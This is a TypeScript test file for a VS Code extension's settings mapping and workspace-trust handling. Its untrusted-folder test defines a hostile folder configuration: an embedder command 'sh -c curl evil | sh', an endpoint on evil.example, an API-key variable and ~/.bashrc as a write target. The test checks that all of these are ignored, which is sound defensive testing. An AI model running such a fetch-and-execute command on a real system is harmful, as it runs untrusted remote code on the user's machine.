// The mapping from `kgls.*` settings to the server's settings object, and the
// contributed settings in package.json that it reads.

import { strict as assert } from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { test } from 'node:test';
import {
  InspectableSource,
  RESTRICTED_SETTINGS,
  SettingValues,
  SettingsSource,
  removedSettings,
  resolveUserPath,
  serverCommand,
  toServerSettings,
  trustedSource,
} from '../src/settings';
import { EXTENSION_DIR } from './textmate';

const manifest = JSON.parse(fs.readFileSync(path.join(EXTENSION_DIR, 'package.json'), 'utf8'));
const contributed: Record<string, { default: unknown; markdownDescription?: string; description?: string }> =
  manifest.contributes.configuration.properties;

/**
 * A configuration like VS Code's: the contributed defaults from package.json, overridden
 * by `user` (keys without the `kgls.` prefix, as `getConfiguration('kgls').get` takes).
 */
function source(user: Record<string, unknown> = {}): SettingsSource {
  return {
    get(key: string) {
      if (key in user) return user[key];
      return contributed[`kgls.${key}`]?.default;
    },
  };
}

const ctx = { workspaceFolder: '/ws', home: '/home/me' };

test('the defaults send only the embedder kind, so the server keeps its measured defaults', () => {
  const { settings, problems } = toServerSettings(source(), ctx);
  assert.deepEqual(settings, { kgls: { similarity: { embedder: { kind: 'builtin' } } } });
  assert.deepEqual(problems, []);
});

test('thresholds, an http embedder and the index path map to the nested server object', () => {
  const { settings, problems } = toServerSettings(
    source({
      'similarity.threshold': 0.65,
      'duplicates.threshold': 0.8,
      'embedder.kind': 'http',
      'embedder.url': ' http://127.0.0.1:11434/v1/embeddings ',
      'embedder.model': 'nomic-embed-text',
      'embedder.apiKeyEnv': 'MY_KEY',
      'index.path': '.kgls/index.sqlite',
      path: '/opt/kgls/bin/kgls',
      'trace.server': 'verbose',
    }),
    ctx,
  );
  assert.deepEqual(problems, []);
  // kgls.path and kgls.trace.server are the client's own: they are not sent.
  assert.deepEqual(settings, {
    kgls: {
      similarity: {
        threshold: 0.65,
        duplicateThreshold: 0.8,
        embedder: { kind: 'http', url: 'http://127.0.0.1:11434/v1/embeddings', model: 'nomic-embed-text', apiKeyEnv: 'MY_KEY' },
      },
      index: { path: '/ws/.kgls/index.sqlite' },
    },
  });
});

test('a command embedder sends its argv; http-only fields are not sent with it', () => {
  const { settings, problems } = toServerSettings(
    source({ 'embedder.kind': 'command', 'embedder.command': ['python3', 'embed.py', '--dim', '384'], 'embedder.url': 'http://x' }),
    ctx,
  );
  assert.deepEqual(problems, []);
  assert.deepEqual(settings.kgls.similarity.embedder, { kind: 'command', command: ['python3', 'embed.py', '--dim', '384'] });
});

test('bad values are reported once each and fall back to what the server would do', () => {
  const cases: [Record<string, unknown>, string, unknown][] = [
    [{ 'similarity.threshold': 1.5 }, 'kgls.similarity.threshold must be a number from -1 to 1 (it is 1.5)', undefined],
    [{ 'duplicates.threshold': 'high' }, 'kgls.duplicates.threshold must be a number from -1 to 1 (it is "high")', undefined],
    [{ 'embedder.kind': 'openai' }, 'kgls.embedder.kind must be one of builtin, http, command (it is "openai")', { kind: 'builtin' }],
    [{ 'embedder.kind': 'http' }, 'kgls.embedder.kind is "http" but kgls.embedder.url is empty', { kind: 'builtin' }],
    [{ 'embedder.kind': 'http', 'embedder.url': 'localhost:11434' }, 'kgls.embedder.url must start with http:// or https://', { kind: 'builtin' }],
    [{ 'embedder.kind': 'command', 'embedder.command': [] }, 'kgls.embedder.kind is "command" but kgls.embedder.command is not a program', { kind: 'builtin' }],
    [{ 'embedder.kind': 'command', 'embedder.command': 'python3 embed.py' }, 'kgls.embedder.command is not a program', { kind: 'builtin' }],
    [
      { 'embedder.kind': 'http', 'embedder.url': 'http://h/v1/embeddings', 'embedder.apiKeyEnv': 'sk-abc123-secret' },
      'kgls.embedder.apiKeyEnv must be the name of an environment variable, not the key itself',
      { kind: 'http', url: 'http://h/v1/embeddings' },
    ],
  ];
  for (const [user, problem, embedder] of cases) {
    const { settings, problems } = toServerSettings(source(user), ctx);
    assert.equal(problems.length, 1, `${JSON.stringify(user)}: ${JSON.stringify(problems)}`);
    assert.ok(problems[0].includes(problem), `${JSON.stringify(user)}: got ${problems[0]}`);
    if (embedder) assert.deepEqual(settings.kgls.similarity.embedder, embedder);
    assert.equal(settings.kgls.similarity.threshold, undefined);
    assert.equal(settings.kgls.similarity.duplicateThreshold, undefined);
  }
  // The secret itself never reaches the settings object.
  const { settings } = toServerSettings(
    source({ 'embedder.kind': 'http', 'embedder.url': 'http://h', 'embedder.apiKeyEnv': 'sk-abc123-secret' }),
    ctx,
  );
  assert.ok(!JSON.stringify(settings).includes('sk-abc123'));
});

test('null and empty strings mean "use the default"', () => {
  const { settings, problems } = toServerSettings(
    source({ 'similarity.threshold': null, 'duplicates.threshold': undefined, 'index.path': '  ', 'embedder.kind': '' }),
    ctx,
  );
  assert.deepEqual(problems, []);
  assert.deepEqual(settings, { kgls: { similarity: { embedder: { kind: 'builtin' } } } });
});

test('paths: ~ is home, relative is the workspace folder, absolute stays', () => {
  assert.equal(resolveUserPath('~/kg/index.sqlite', ctx), '/home/me/kg/index.sqlite');
  assert.equal(resolveUserPath('~', ctx), '/home/me');
  assert.equal(resolveUserPath('idx.sqlite', ctx), '/ws/idx.sqlite');
  assert.equal(resolveUserPath('/var/kg.sqlite', ctx), '/var/kg.sqlite');
  assert.equal(resolveUserPath('idx.sqlite', { home: '/h' }), 'idx.sqlite');  // No folder open: left as is.
});

test('the server command: kgls on PATH by default, paths resolved, always `serve`', () => {
  assert.deepEqual(serverCommand(source(), ctx), { command: 'kgls', args: ['serve'] });
  assert.deepEqual(serverCommand(source({ path: '' }), ctx), { command: 'kgls', args: ['serve'] });
  assert.deepEqual(serverCommand(source({ path: 'kgls-dev' }), ctx), { command: 'kgls-dev', args: ['serve'] });
  assert.deepEqual(serverCommand(source({ path: 'build/kgls' }), ctx), { command: '/ws/build/kgls', args: ['serve'] });
  assert.deepEqual(serverCommand(source({ path: '~/bin/kgls' }), ctx), { command: '/home/me/bin/kgls', args: ['serve'] });
});

test('every contributed setting has a description, and the mapping reads only contributed settings', () => {
  const read = new Set<string>();
  const spy: SettingsSource = {
    get(key: string) {
      read.add(`kgls.${key}`);
      return source({ 'embedder.kind': key === 'embedder.kind' ? 'http' : undefined, 'embedder.url': 'http://h' }).get(key);
    },
  };
  toServerSettings(spy, ctx);
  toServerSettings({ get: (k) => (read.add(`kgls.${k}`), k === 'embedder.kind' ? 'command' : source().get(k)) }, ctx);
  serverCommand({ get: (k) => (read.add(`kgls.${k}`), source().get(k)) }, ctx);
  for (const key of read) assert.ok(key in contributed, `the mapping reads ${key}, which package.json does not contribute`);
  const expected = [
    'kgls.path',
    'kgls.similarity.threshold',
    'kgls.duplicates.threshold',
    'kgls.embedder.kind',
    'kgls.embedder.url',
    'kgls.embedder.model',
    'kgls.embedder.apiKeyEnv',
    'kgls.embedder.command',
    'kgls.index.path',
    'kgls.diagnostics.mentions',
    'kgls.trace.server',
  ];
  assert.deepEqual(Object.keys(contributed).sort(), [...expected].sort());
  for (const [key, schema] of Object.entries(contributed)) {
    const description = schema.markdownDescription ?? schema.description ?? '';
    assert.ok(description.length > 30, `${key} needs a description`);
  }
  // A leaf setting whose name is a prefix of another would hide it in VS Code's settings tree.
  for (const a of Object.keys(contributed)) {
    for (const b of Object.keys(contributed)) assert.ok(!b.startsWith(a + '.'), `${a} is a prefix of ${b}`);
  }
});

test('clearing a setting is a removed path (the extension restarts the server for it)', () => {
  const before = toServerSettings(source({ 'duplicates.threshold': 0.8, 'embedder.kind': 'http', 'embedder.url': 'http://h', 'embedder.model': 'm' }), ctx).settings;
  const changed = toServerSettings(source({ 'duplicates.threshold': 0.9, 'embedder.kind': 'http', 'embedder.url': 'http://h', 'embedder.model': 'm' }), ctx).settings;
  const cleared = toServerSettings(source({ 'embedder.kind': 'http', 'embedder.url': 'http://h' }), ctx).settings;
  assert.deepEqual(removedSettings(before, changed), []);
  assert.deepEqual(removedSettings(before, cleared).sort(), ['similarity.duplicateThreshold', 'similarity.embedder.model']);
  assert.deepEqual(removedSettings(cleared, before), []);
});

/**
 * A configuration with VS Code's layers: the contributed defaults, the user's settings and
 * the folder's (`.vscode/settings.json`), the folder's winning, as `get` and `inspect` see them.
 */
function layered(user: Record<string, unknown>, folder: Record<string, unknown>): InspectableSource {
  return {
    get(key: string) {
      if (key in folder) return folder[key];
      if (key in user) return user[key];
      return contributed[`kgls.${key}`]?.default;
    },
    inspect(key: string): SettingValues {
      return { defaultValue: contributed[`kgls.${key}`]?.default, globalValue: user[key], workspaceValue: folder[key] };
    },
  };
}

test('an untrusted folder cannot choose the program, the embedder command, the endpoint, the key or the index file', () => {
  const folder = {
    path: './evil/kgls',
    'embedder.kind': 'command',
    'embedder.command': ['sh', '-c', 'curl evil | sh'],
    'embedder.url': 'http://evil.example/v1/embeddings',
    'embedder.apiKeyEnv': 'OPENAI_API_KEY',
    'index.path': '~/.bashrc',
    'duplicates.threshold': 0.9,
  };
  const trusted = trustedSource(layered({}, folder), true);
  assert.deepEqual(trusted.ignored, []);
  assert.deepEqual(serverCommand(trusted.source, ctx), { command: '/ws/evil/kgls', args: ['serve'] });
  assert.deepEqual(toServerSettings(trusted.source, ctx).settings.kgls.similarity.embedder.command, ['sh', '-c', 'curl evil | sh']);

  const untrusted = trustedSource(layered({}, folder), false);
  assert.deepEqual(untrusted.ignored.sort(), [
    'kgls.embedder.apiKeyEnv',
    'kgls.embedder.command',
    'kgls.embedder.url',
    'kgls.index.path',
    'kgls.path',
  ]);
  assert.deepEqual(serverCommand(untrusted.source, ctx), { command: 'kgls', args: ['serve'] });
  const { settings, problems } = toServerSettings(untrusted.source, ctx);
  // The folder's kind stays (it runs nothing by itself); with no command it falls back to builtin.
  assert.deepEqual(settings.kgls.similarity.embedder, { kind: 'builtin' });
  assert.equal(settings.kgls.index, undefined);
  assert.equal(settings.kgls.similarity.duplicateThreshold, 0.9);  // Harmless settings still count.
  assert.equal(problems.length, 1);
  assert.match(problems[0], /kgls\.embedder\.command is not a program/);
  // An http kind from the folder gets neither the folder's address nor its key variable.
  const http = trustedSource(layered({}, { ...folder, 'embedder.kind': 'http' }), false);
  assert.deepEqual(toServerSettings(http.source, ctx).settings.kgls.similarity.embedder, { kind: 'builtin' });
  assert.ok(!JSON.stringify(toServerSettings(http.source, ctx).settings).includes('evil'));
});

test("in an untrusted folder the user's own values of the restricted settings still count", () => {
  const user = {
    path: '/opt/kgls/bin/kgls',
    'embedder.kind': 'http',
    'embedder.url': 'http://127.0.0.1:11434/v1/embeddings',
    'embedder.apiKeyEnv': 'MY_KEY',
    'index.path': '/home/me/kg.sqlite',
  };
  const { source, ignored } = trustedSource(layered(user, { path: '/tmp/other', 'embedder.url': 'http://evil/' }), false);
  assert.deepEqual(ignored.sort(), ['kgls.embedder.url', 'kgls.path']);
  assert.deepEqual(serverCommand(source, ctx), { command: '/opt/kgls/bin/kgls', args: ['serve'] });
  assert.deepEqual(toServerSettings(source, ctx).settings, {
    kgls: {
      similarity: { embedder: { kind: 'http', url: 'http://127.0.0.1:11434/v1/embeddings', apiKeyEnv: 'MY_KEY' } },
      index: { path: '/home/me/kg.sqlite' },
    },
  });
  // Nothing set anywhere: nothing is ignored, and the defaults apply.
  assert.deepEqual(trustedSource(layered({}, {}), false).ignored, []);
});

test('package.json restricts exactly the settings the extension ignores in untrusted folders', () => {
  const untrusted = manifest.capabilities?.untrustedWorkspaces;
  assert.equal(untrusted?.supported, 'limited');
  assert.ok(typeof untrusted.description === 'string' && untrusted.description.length > 30);
  assert.deepEqual([...untrusted.restrictedConfigurations].sort(), RESTRICTED_SETTINGS.map((k) => `kgls.${k}`).sort());
  for (const key of untrusted.restrictedConfigurations) assert.ok(key in contributed, `${key} is not a contributed setting`);
  // Every setting a folder may override per machine is a program or a file: it must be restricted.
  const properties: Record<string, { scope?: string }> = manifest.contributes.configuration.properties;
  for (const [key, schema] of Object.entries(properties)) {
    if (schema.scope === 'machine-overridable') assert.ok(untrusted.restrictedConfigurations.includes(key), `${key} is not restricted`);
  }
});

test('kgls.diagnostics.mentions is sent only when turned off (the server has them on)', () => {
  assert.equal(toServerSettings(source({ 'diagnostics.mentions': true }), ctx).settings.kgls.diagnostics, undefined);
  assert.deepEqual(toServerSettings(source({ 'diagnostics.mentions': false }), ctx).settings.kgls.diagnostics, { mentions: false });
});
